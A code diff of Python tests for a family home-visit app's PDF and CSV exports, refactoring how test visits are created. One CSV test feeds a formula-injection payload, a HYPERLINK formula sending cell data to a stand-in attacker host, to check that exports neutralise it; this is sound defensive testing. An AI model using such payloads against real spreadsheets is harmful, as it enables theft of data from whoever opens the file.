@@ -22,20 +22,20 @@ from tests.exports.conftest import (
     read_csv,
     rendered_pages,
 )
-from tests.factories import DOMAINS, visit_body
+from tests.factories import DOMAINS
 from tests.support import clock
 
 ZONE = ZoneInfo("Europe/London")
 MARKING = "OFFICIAL-SENSITIVE"
 
 
-def _days_ago(days: int, hour: int = 11) -> str:
-    return clock.days_ago(days, hour + 5 / 60).isoformat()
+def _days_ago(days: int, hour: int = 11) -> dt.datetime:
+    return clock.days_ago(days, hour + 5 / 60)
 
 
-def _printed(day_iso: str) -> str:
+def _printed(instant: dt.datetime) -> str:
     """A visit's date as the PDF prints it (partnership time): "3 Mar 2026"."""
-    local = dt.datetime.fromisoformat(day_iso).astimezone(ZONE)
+    local = instant.astimezone(ZONE)
     return f"{local.day} {local:%b %Y}"
 
 
@@ -59,15 +59,10 @@ def _agree(team: Team, note: str = "", levels: dict[str, int] | None = None) -> 
 # --- the summary PDF -----------------------------------------------------------------------
 
 def test_summary_pdf_holds_flags_responses_visit_dates_and_charts(team: Team):
-    first = team.practitioner.submit_visit(team.family.id, visit_body(
-        visited_at=_days_ago(20), announced=True))
-    assert first.status_code == 201
-    second_at = _days_ago(3)
-    second = team.practitioner.submit_visit(team.family.id, visit_body(
-        visited_at=second_at, concerns=["no_food"],
-        scores=dict.fromkeys(DOMAINS, 2) | {"food": 5, "kitchen": 4},
-        notes="Fridge and cupboards empty; mother says benefits are late."))
-    assert second.status_code == 201
+    first_at, second_at = _days_ago(20), _days_ago(3)
+    team.visit(first_at, announced=True)
+    team.visit(second_at, {"food": 5, "kitchen": 4}, concerns=["no_food"],
+               notes="Fridge and cupboards empty; mother says benefits are late.")
     flags = team.lead.get(team.url("flags")).json
     assert flags, "an immediate concern raises a flag at once"
     response_text = "Food bank parcel delivered the same day; revisit tomorrow."
@@ -89,7 +84,7 @@ def test_summary_pdf_holds_flags_responses_visit_dates_and_charts(team: Team):
     for flag in flags:
         assert " ".join(flag["explanation"].split()) in text
     assert response_text in text
-    assert _printed(first.json["visited_at"]) in text, text
+    assert _printed(first_at) in text, text
     assert _printed(second_at) in text, text
     assert "Fridge and cupboards empty" in text
     assert "(!!) Concern" in text  # the glance says it in words, not only by shading
@@ -110,18 +105,11 @@ def test_people_s_text_prints_as_typed_however_long_or_odd(team: Team):
     long_note = " ".join(f"Observation {number} about the kitchen and the stairs."
                          for number in range(1, 90)) + " Final sentence of a long note."
     assert len(long_note) > 4000
-    original = team.practitioner.submit_visit(team.family.id, visit_body(
-        visited_at=_days_ago(4), notes=markup))
-    assert original.status_code == 201
-    amended = team.practitioner.post(
-        f"/api/v1/visits/{original.json['id']}/amendments",
-        json={"reason": "Typed the wrong note.", "notes": f"{markup} Corrected."})
-    assert amended.status_code == 201, amended.json
-    assert team.practitioner.submit_visit(team.family.id, visit_body(
-        visited_at=_days_ago(2), notes=long_note)).status_code == 201
-    flag = team.practitioner.submit_visit(team.family.id, visit_body(
-        visited_at=_days_ago(1), concerns=["no_food"], notes="Cupboards bare."))
-    assert flag.status_code == 201
+    original = team.visit(_days_ago(4), notes=markup)
+    team.factory.amendment(original, team.practitioner_ref.id, "Typed the wrong note.",
+                           notes=f"{markup} Corrected.")
+    team.visit(_days_ago(2), notes=long_note)
+    team.visit(_days_ago(1), concerns=["no_food"], notes="Cupboards bare.")
     flag_id = team.lead.get(team.url("flags")).json[0]["id"]
     assert team.lead.post(f"/api/v1/flags/{flag_id}/acknowledge", json={
         "response": "Food bank referral made.", "close": True}).status_code == 200
@@ -131,8 +119,7 @@ def test_people_s_text_prints_as_typed_however_long_or_odd(team: Team):
     _assert_marked_and_numbered(pdf.data)
     text = pdf_text(pdf.data)
     assert " ".join(f"{markup} Corrected.".split()) in text  # escaped, not read as markup
-    assert f"Corrected record (replaces visit {original.json['id']}): Typed the wrong note." \
-        in text
+    assert f"Corrected record (replaces visit {original}): Typed the wrong note." in text
     assert text.count('Mother wrote <b>"not bold"</b>') == 1  # the superseded one is not shown
     assert "Observation 1 about the kitchen" in text and "Final sentence of a long note." in text
     assert "Food bank referral made." in text and "by Test lead_social_worker" in text
@@ -142,8 +129,7 @@ def test_a_note_longer_than_a_page_is_split_across_pages(team: Team, app, monkey
     monkeypatch.setitem(app.config, "HOMELOG_NOTES_MAX_CHARS", 30000)
     note = " ".join(f"Line {number} of a very long account of the visit." for number in
                     range(1, 520)) + " The very end."
-    assert team.practitioner.submit_visit(team.family.id, visit_body(
-        visited_at=_days_ago(2), notes=note)).status_code == 201
+    team.visit(_days_ago(2), notes=note)
     pdf = team.lead.get(team.url("summary.pdf"))
     assert pdf.status_code == 200
     pages = _assert_marked_and_numbered(pdf.data)
@@ -166,8 +152,7 @@ def test_summary_pdf_of_a_family_with_no_visits(team: Team):
 
 def test_summary_pdf_of_a_family_with_one_visit(team: Team):
     when = _days_ago(7)
-    assert team.practitioner.submit_visit(team.family.id, visit_body(
-        visited_at=when, notes="Only visit so far.")).status_code == 201
+    team.visit(when, notes="Only visit so far.")
     pdf = team.lead.get(team.url("summary.pdf"))
     assert pdf.status_code == 200
     pages = _assert_marked_and_numbered(pdf.data)
@@ -182,8 +167,7 @@ def test_summary_pdf_of_a_family_with_one_visit(team: Team):
 def test_the_period_chooses_what_is_shown(team: Team):
     old, recent = _days_ago(60), _days_ago(5)
     for when, note in ((old, "Old visit note."), (recent, "Recent visit note.")):
-        assert team.practitioner.submit_visit(team.family.id, visit_body(
-            visited_at=when, notes=note)).status_code == 201
+        team.visit(when, notes=note)
     start = (clock.today() - dt.timedelta(days=10)).isoformat()
     pdf = team.lead.get(team.url("summary.pdf"), query_string={"from": start})
     text = pdf_text(pdf.data)
@@ -213,15 +197,13 @@ def test_bad_periods_are_refused_naming_the_field(team: Team):
 
 def test_csvs_round_trip_and_neutralise_formulas(team: Team):
     hostile = '=HYPERLINK("http://attacker.example/steal?x="&A1,"Click for details")'
-    bodies = [
-        visit_body(visited_at=_days_ago(9), notes=hostile),
-        visit_body(visited_at=_days_ago(6), notes="+44 7700 900000 called",
+    visits = [
+        team.visit(_days_ago(9), notes=hostile),
+        team.visit(_days_ago(6), notes="+44 7700 900000 called",
                    child_presentation="@SUM(1+1)"),
-        visit_body(visited_at=_days_ago(2), notes="-2 degrees outside; heating off",
-                   scores=dict.fromkeys(DOMAINS, 2) | {"warmth": None, "air": 4}),
+        team.visit(_days_ago(2), {"warmth": None, "air": 4},
+                   notes="-2 degrees outside; heating off"),
     ]
-    for body in bodies:
-        assert team.practitioner.submit_visit(team.family.id, body).status_code == 201
 
     scores = team.lead.get(team.url("summary.csv"))
     assert scores.status_code == 200
@@ -230,7 +212,7 @@ def test_csvs_round_trip_and_neutralise_formulas(team: Team):
     assert b"\r\n" in scores.data
     rows = read_csv(scores.data)
     assert tuple(rows[0]) == SUMMARY_HEADER
-    assert len(rows) == 1 + len(bodies) * len(DOMAINS)
+    assert len(rows) == 1 + len(visits) * len(DOMAINS)
     assert all(row[0] == team.family.reference for row in rows[1:])
     warmth = [row for row in rows[1:] if row[7] == "warmth"]
     assert [row[9] for row in warmth] == ["2", "2", ""]  # not seen: empty, never a 0
@@ -238,13 +220,13 @@ def test_csvs_round_trip_and_neutralise_formulas(team: Team):
     air = [row for row in rows[1:] if row[7] == "air"]
     assert air[-1][9:] == ["4", "2", "concern"]
 
-    visits = read_csv(team.lead.get(team.url("visits.csv")).data)
-    assert len(visits) == 1 + len(bodies)
-    notes = {row[1]: row[-3] for row in visits[1:]}
+    listed = read_csv(team.lead.get(team.url("visits.csv")).data)
+    assert len(listed) == 1 + len(visits)
+    notes = {row[1]: row[-3] for row in listed[1:]}
     assert sorted(notes.values()) == sorted([
         "'" + hostile, "'+44 7700 900000 called", "'-2 degrees outside; heating off"])
-    assert any(row[-4] == "'@SUM(1+1)" for row in visits[1:])
-    for row in visits[1:]:
+    assert any(row[-4] == "'@SUM(1+1)" for row in listed[1:])
+    for row in listed[1:]:
         assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
 
 
@@ -261,9 +243,8 @@ def test_parents_copy_is_plain_and_holds_no_scores_flags_or_notes(team: Team):
     agreement_note = "Core group note: mother minimises the dog mess issue."
     _agree(team, note=agreement_note, levels=dict.fromkeys(DOMAINS, 2) | {"sleep": 1})
     visit_note = "Baby asleep on the sofa with father after he had been drinking."
-    assert team.practitioner.submit_visit(team.family.id, visit_body(
-        visited_at=_days_ago(1), concerns=["unsafe_sleep"], notes=visit_note,
-        scores=dict.fromkeys(DOMAINS, 4))).status_code == 201
+    team.visit(_days_ago(1), dict.fromkeys(DOMAINS, 4), concerns=["unsafe_sleep"],
+               notes=visit_note)
     flags = team.lead.get(team.url("flags")).json
     assert flags
 
@@ -319,7 +300,7 @@ def test_outsiders_get_404_and_strangers_401(team: Team, factory, make_client):
 
 def test_every_export_is_audited_with_period_format_and_hash(team: Team):
     _agree(team)
-    assert team.practitioner.submit_visit(team.family.id, visit_body()).status_code == 201
+    team.visit()
     start = (clock.today() - dt.timedelta(days=40)).isoformat()
     end = clock.today().isoformat()
     produced = {}
